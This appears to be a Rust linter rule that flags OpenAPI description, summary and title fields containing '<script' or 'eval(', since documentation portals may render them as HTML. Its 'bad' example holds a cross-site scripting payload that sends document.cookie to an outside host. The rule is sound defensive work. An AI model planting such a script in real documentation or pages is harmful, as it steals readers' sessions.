//! Script in Markdown descriptions.

use crate::openapi::{Node, Spec, Value};
use crate::rule::{ApiRule, Reporter};
use pab_core::{Language, RuleDocs, RuleMeta, Severity};

pub struct OasMarkdownScript;

static META: RuleMeta = RuleMeta {
    id: "api/oas-markdown-script",
    aliases: &[],
    severity: Severity::Warning,
    language: Language::Yaml,
    default_enabled: true,
    summary: "A `description` or `title` contains a `<script>` tag or `eval(`.",
    docs: RuleDocs {
        what: "Reports `description`, `summary` and `title` strings anywhere in the description that contain `<script` (any case) or `eval(`.",
        why: "Documentation portals render these fields as Markdown, and many let raw HTML through: script in them runs in the browser of everyone who reads the docs, with their session on the portal (cross-site scripting through the API description, which is often contributed by many people or generated from code comments).",
        lock: "",
        bad: "info:\n  description: \"Welcome! <script>fetch('https://x.io/?c=' + document.cookie)</script>\"",
        good: "info:\n  description: Welcome! See the [quick start](https://docs.acme.io/start).",
        fix: "Remove the script; use Markdown links and images for what the text needs.",
    },
};

impl ApiRule for OasMarkdownScript {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check_openapi(&self, cx: &Spec, out: &mut Reporter) {
        let mut stack: Vec<&Node> = vec![cx.root];
        while let Some(node) = stack.pop() {
            match &node.value {
                Value::Map(entries) => {
                    for (key, value) in entries {
                        let is_text = matches!(key.as_str(), Some("description" | "summary" | "title"));
                        match value.as_str() {
                            Some(text) if is_text => {
                                let lower = text.to_ascii_lowercase();
                                if lower.contains("<script") || lower.contains("eval(") {
                                    out.report(
                                        &META,
                                        value.range(),
                                        format!("`{}` contains script", key.as_str().unwrap_or("")),
                                        "remove the `<script>`/`eval(`; documentation renders this text as HTML",
                                    );
                                }
                            }
                            _ => stack.push(value),
                        }
                    }
                }
                Value::Seq(items) => stack.extend(items),
                _ => {}
            }
        }
    }
}
